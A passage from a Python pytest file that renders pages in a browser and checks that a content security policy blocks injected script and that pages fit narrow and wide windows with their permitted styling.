        f'<body style="margin:0"><div style="display:flex;width:9000px">{frames}</div><pre id=told></pre>'
    )
    seen = browse(folder, source, width=1700, shot=folder / "shot.png")
    assert "<title>window</title>" in seen
    return json.loads(html.unescape(re.search(r'<pre id="told">(.*?)</pre>', seen)[1])), folder / "shot.png"


@in_a_browser
def test_the_policy_stops_what_would_run_if_nothing_were_escaped(opened):
    told, _ = opened
    assert told["no policy"]["title"] == "owned"  # this browser does run what it may
    assert told["not escaped"]["title"] == "a title"
    assert told["narrow, attacked"]["title"] == told["wide, attacked"]["title"] == "a title"


@in_a_browser
@pytest.mark.parametrize("name", ["narrow", "wide", "narrow, attacked", "wide, attacked"])
def test_a_page_is_no_wider_than_its_window(opened, name):
    told, _ = opened
    assert told[name]["width"] == FRAMES[name]
    assert told[name]["across"] <= FRAMES[name]


@in_a_browser
@pytest.mark.parametrize("name", ["narrow", "wide"])
def test_a_page_can_be_seen_at_any_width(opened, name):
    pictures = pytest.importorskip("PIL.Image")
    left = {"narrow": 0, "wide": 400}[name]
    with pictures.open(opened[1]) as window:
        assert window.size == (1700, HEIGHT)
        picture = window.convert("RGB").crop((left, 0, left + FRAMES[name], HEIGHT))
    colours = {colour: count for count, colour in picture.getcolors(1 << 24)}
    assert len(colours) > 50
    assert max(colours.values()) < 0.97 * FRAMES[name] * HEIGHT
    assert {(0xF6, 0xF7, 0xF9), (0xFF, 0xFF, 0xFF)} <= colours.keys()  # the style sheet is one that its policy allows
